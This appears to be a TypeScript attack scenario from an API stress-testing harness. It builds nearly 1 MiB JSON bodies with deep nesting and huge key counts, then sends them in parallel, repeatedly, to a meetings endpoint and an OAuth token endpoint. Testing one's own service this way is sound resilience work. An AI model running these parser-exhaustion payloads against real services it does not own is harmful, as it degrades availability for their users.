import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const AT_ONCE = 4
/** The limits of the API let no more through. */
const PAUSE_MS = 200

/** Bodies of almost 1 MiB that are slow to parse: names without end, brackets in brackets, one value after another. */
const BODIES: Uint8Array<ArrayBuffer>[] = [
  `{${Array.from({ length: 90_000 }, (_, index) => `"a${index}":1`).join()}}`,
  `{"title":${'['.repeat(500_000)}${']'.repeat(500_000)}}`,
  `{"a":${'{"a":'.repeat(170_000)}1${'}'.repeat(170_000)}}`,
  `{"participants":[${'{},'.repeat(340_000)}{}]}`,
].map(text => new TextEncoder().encode(text))

/** Sends such bodies to the API, with and without a credential, and to the token endpoint. */
export async function attack({ baseUrl, apiKey, signal }: Attack): Promise<void> {
  const origin = baseUrl.replace(/\/v1$/, '')
  const headers = { 'content-type': 'application/json' }
  const send = async (url: string, body: Uint8Array<ArrayBuffer>, authorization?: string): Promise<void> => {
    const response = await fetch(url, {
      method: 'POST',
      body,
      signal,
      headers: { ...headers, ...(authorization && { authorization }) },
    })
    await response.arrayBuffer()
  }
  const attackers = Array.from({ length: AT_ONCE }, async (_, attacker) => {
    for (let request = attacker; !signal.aborted; request++) {
      const body = BODIES[request % BODIES.length]!
      const isApi = request % 3 > 0
      const url = isApi ? `${baseUrl}/meetings` : `${origin}/oauth/token`
      await send(url, body, isApi ? `Bearer ${apiKey}` : undefined).catch(() => {})
      await sleep(PAUSE_MS)
    }
  })
  await Promise.all(attackers)
}
